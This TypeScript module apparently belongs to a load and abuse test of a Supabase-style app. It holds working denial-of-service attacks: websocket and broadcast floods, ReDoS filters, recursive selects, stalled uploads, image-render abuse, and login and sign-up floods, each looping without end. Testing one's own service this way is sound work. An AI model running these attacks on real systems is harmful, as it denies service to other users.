/** The ways in which one attacker can slow other members down. Each attack continues until its thread is ended. */
import { once } from 'node:events'
import { type IncomingMessage, type OutgoingHttpHeaders, request } from 'node:http'
import { connect } from 'node:net'
import { WebSocket } from 'ws'

export type Target = {
  readonly url: string
  readonly publishableKey: string
  /** The attacker is also a member, and has a post, a project and a picture. */
  readonly token: string
  readonly userId: string
  readonly projectId: string
  readonly picturePath: string
}
type Attack = (target: Target) => Promise<unknown>

/** The attacker sends from a separate address, so that limits by address refuse only the attacker. */
const localAddress = '127.0.0.66'

export const attacks: Readonly<Record<string, Attack>> = {
  'presence of 1 MB': withSockets(8, 'anonymous', (socket, at) => {
    const payload = { a: Array(250_000).fill([]) }
    const frame = [
      '1',
      String(at),
      'realtime:room',
      'presence',
      { type: 'presence', event: 'track', payload },
    ]
    socket.send(JSON.stringify(frame))
  }),
  'joins with names of 1 MB': withSockets(8, 'anonymous', (socket, at) => {
    const long = `${at} ${'x'.repeat(900_000)}`
    const changes = [{ event: '*', schema: long, table: 'posts' }]
    socket.send(join(`realtime:${at}`, changes))
  }),
  'filters that raise': withSockets(4, 'member', (socket, at) => {
    const filter = 'content=match."(?:(a{1,40}){1,40}){1,40}b"'
    socket.send(join(`realtime:${at}`, [{ event: '*', schema: 'public', table: 'messages', filter }]))
  }),
  'listening a thousand times to what one deletes': target => {
    const changes = Array(100).fill({ event: '*', schema: 'public', table: 'posts' })
    const listening = withSockets(5, 'member', (socket, at) => {
      if (at % 50 < 2) socket.send(join(`realtime:often ${at % 50}`, changes, target.token))
    })
    const writing = atOnce(1, async () => {
      const posts = Array(20).fill({ user_id: target.userId, content: 'gone soon' })
      await ask(target, 'POST', '/rest/v1/posts', posts)
      return ask(target, 'DELETE', `/rest/v1/posts?user_id=eq.${target.userId}&content=eq.gone%20soon`)
    })
    return Promise.all([listening(target), writing(target)])
  },
  'a flood of broadcasts': withSockets(8, 'anonymous', (socket, at) => {
    const payload = { type: 'broadcast', event: 'x', payload: { text: 'x'.repeat(10_000) } }
    for (let times = 0; times < 20; times += 1)
      socket.send(JSON.stringify(['1', `${at}-${times}`, 'realtime:room', 'broadcast', payload]))
  }),
  '2,000 sockets': async target => {
    for (;;) {
      const sockets = Array.from({ length: 2000 }, () => openSocket(target, 'anonymous'))
      await pause(5000)
      for (const socket of sockets) socket.terminate()
    }
  },
  'refused upgrades held open': async target => {
    const { port } = new URL(target.url)
    const ask =
      'GET /realtime/v1/nothing HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n'
    for (;;) {
      const sockets = Array.from({ length: 300 }, () => {
        const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress })
        socket.on('error', () => {})
        socket.write(`${ask}Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`)
        return socket
      })
      await pause(2000)
      for (const socket of sockets) socket.destroy()
    }
  },
  'slow regular expressions': atOnce(24, target =>
    ask(target, 'GET', `/rest/v1/posts?content=match.${encodeURIComponent('^(a+)(a+)(a+)\\1\\2\\3ab$')}`),
  ),
  'a pattern of many wildcards': atOnce(24, target =>
    ask(target, 'GET', `/rest/v1/posts?content=like.${'*a'.repeat(2000)}*b`),
  ),
  'selects that embed themselves': atOnce(6, target =>
    ask(target, 'GET', `/rest/v1/posts?select=${nested(5)}`),
  ),
  'rows of 0.9 MB': atOnce(8, ({ projectId, ...target }) =>
    ask({ projectId, ...target }, 'POST', '/rest/v1/ai_outputs', {
      project_id: projectId,
      output_type: 'market_research',
      output_content: 'x'.repeat(900_000),
    }),
  ),
  'many small posts': atOnce(16, target =>
    ask(target, 'POST', '/rest/v1/posts', { user_id: target.userId, content: 'again' }),
  ),
  'abandoned pictures of 2500 px': async target => {
    const path = `/storage/v1/render/image/public/avatars/${target.picturePath}`
    for (let size = 2500; ; size = size > 2000 ? size - 1 : 2500) {
      const sent = send(target, 'GET', `${path}?width=${size}&height=${size}&quality=100`, {
        accept: 'image/avif,image/webp',
      })
      sent.on('error', () => {})
      sent.end()
      await pause(10)
      sent.destroy()
    }
  },
  '300 stalled uploads': async target => {
    for (let round = 0; ; round += 1) {
      const uploads = Array.from({ length: 300 }, (_, at) => {
        const path = `/storage/v1/object/avatars/${target.userId}/${round}-${at}.png`
        const sent = send(target, 'POST', path, { 'content-type': 'image/png', 'content-length': 4_000_000 })
        sent.on('error', () => {})
        sent.write(Buffer.alloc(1_000_000))
        return sent
      })
      await pause(8000)
      for (const upload of uploads) upload.destroy()
    }
  },
  'wrong passwords': atOnce(16, target =>
    ask({ ...target, token: target.publishableKey }, 'POST', '/auth/v1/token?grant_type=password', {
      email: `${Math.random()}@example.com`,
      password: 'not the password',
    }),
  ),
  'sign-ups': atOnce(16, target =>
    ask({ ...target, token: target.publishableKey }, 'POST', '/auth/v1/signup', {
      email: `${Math.random()}@example.com`,
      password: `pass-${Math.random()}`,
    }),
  ),
  'helpers asked without pause': atOnce(16, target =>
    ask(target, 'POST', '/functions/v1/idea-refinement-chat', {
      messages: [{ role: 'user', content: 'word '.repeat(780) }],
      ideaContext: null,
    }),
  ),
}

const nested = (depth: number): string => (depth === 0 ? '*' : `*,profiles(*,posts(${nested(depth - 1)}))`)

const join = (topic: string, changes: readonly unknown[], access_token?: string): string =>
  JSON.stringify(['1', '1', topic, 'phx_join', { config: { postgres_changes: changes }, access_token }])

type SocketUser = 'anonymous' | 'member'

function openSocket({ url, publishableKey, token }: Target, as: SocketUser): WebSocket {
  const address = `${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${publishableKey}&vsn=2.0.0`
  const headers = as === 'member' ? { authorization: `Bearer ${token}` } : {}
  const socket = new WebSocket(address, { localAddress, headers })
  socket.on('error', () => {})
  return socket
}

const mostUnread = 4 * 1024 * 1024

/** Opens sockets that send without a pause. When the server closes a socket, a new one is opened. */
function withSockets(count: number, as: SocketUser, act: (socket: WebSocket, at: number) => void): Attack {
  return target =>
    Promise.all(
      Array.from({ length: count }, async () => {
        for (let at = 0; ; ) {
          const socket = openSocket(target, as)
          const closed = once(socket, 'close')
          await Promise.race([once(socket, 'open'), closed])
          if (socket.readyState === WebSocket.OPEN) {
            const access_token = as === 'member' ? target.token : undefined
            socket.send(JSON.stringify(['1', '0', 'realtime:room', 'phx_join', { config: {}, access_token }]))
          }
          while (socket.readyState === WebSocket.OPEN) {
            // Unsent data would only fill the memory of this machine, so the attacker waits until the server has
            // read more.
            if (socket.bufferedAmount < mostUnread) act(socket, at)
            at += 1
            await pause(100)
          }
          await closed
          await pause(100)
        }
      }),
    )
}

function atOnce(count: number, act: (target: Target) => Promise<unknown>): Attack {
  return target =>
    Promise.all(
      Array.from({ length: count }, async () => {
        for (;;) {
          // A refused attacker tries again after a pause, because a loop without a pause would only load this machine.
          const isRefused = await act(target).then(
            status => Number(status) >= 400,
            () => true,
          )
          if (isRefused) await pause(50)
        }
      }),
    )
}

function send(target: Target, method: string, path: string, headers: OutgoingHttpHeaders) {
  const { hostname, port } = new URL(target.url)
  return request({
    hostname,
    port,
    method,
    path,
    localAddress,
    headers: { apikey: target.publishableKey, authorization: `Bearer ${target.token}`, ...headers },
  })
}

async function ask(target: Target, method: string, path: string, body?: unknown): Promise<number> {
  const text = body === undefined ? undefined : JSON.stringify(body)
  const sent = send(target, method, path, { 'content-type': 'application/json' })
  sent.end(text)
  const [answer] = (await once(sent, 'response')) as [IncomingMessage]
  answer.resume()
  await once(answer, 'close')
  return answer.statusCode ?? 0
}

const pause = (ms: number) => new Promise(resolve => setTimeout(resolve, ms))
